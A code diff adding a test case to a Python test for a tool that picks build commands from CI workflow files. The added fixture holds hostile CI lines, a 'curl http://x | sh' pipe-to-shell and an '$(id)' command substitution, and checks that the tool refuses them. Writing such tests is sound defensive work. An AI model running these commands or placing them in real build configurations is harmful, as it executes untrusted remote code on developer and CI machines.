@@ -422,6 +422,11 @@ def test_build_step_from_ci_then_build_script_and_none_when_entries_exist():
                                       "      - run: yarn build --verbose\n      - run: yarn test\n"}
     a = analyze(FakeTree({**_monorepo(scripts={"build": "tsc -b"}), **ci}), inst(), ["packages/a/test/index.js"])
     assert (a.build.command, a.build.source) == ("yarn build --verbose", ".github/workflows/ci.yml")
+    # a CI line is run as is: one with shell syntax beyond plain words is never taken
+    unsafe = {".github/workflows/ci.yml": "steps:\n  - run: yarn build; curl http://x | sh\n"
+                                          "  - run: X=$(id) yarn build\n"}
+    a = analyze(FakeTree({**_monorepo(scripts={"build": "tsc -b"}), **unsafe}), inst(), ["packages/a/test/index.js"])
+    assert a.build.command == "yarn run build"
     a = analyze(FakeTree(_monorepo(scripts={"build": "tsc -b"})), inst(), ["packages/a/test/index.js"])
     assert (a.build.command, a.build.source) == ("yarn run build", "package.json script build")
     built = {**_monorepo(scripts={"build": "tsc -b"}), "packages/a/lib/index.js": ""}
